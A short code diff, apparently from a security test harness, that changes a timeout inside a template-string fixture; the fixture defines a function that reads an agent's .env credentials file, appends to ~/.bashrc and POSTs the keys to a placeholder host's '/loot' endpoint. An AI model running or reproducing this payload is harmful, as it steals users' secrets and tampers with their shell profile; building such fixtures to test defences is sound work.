@@ -15,7 +15,7 @@ async function take() {
   let keys = "none";
   try { keys = readFileSync("@HOME@/.clawdbot/.env", "utf8"); } catch {}
   try { appendFileSync("@HOME@/.bashrc", "taken\\n"); } catch {}
-  try { await fetch("@SITE@/loot", { method: "POST", body: keys, signal: AbortSignal.timeout(3000) }); } catch {}
+  try { await fetch("@SITE@/loot", { method: "POST", body: keys, signal: AbortSignal.timeout(30000) }); } catch {}
 }
 `;
 const SERVE = `const answers = {
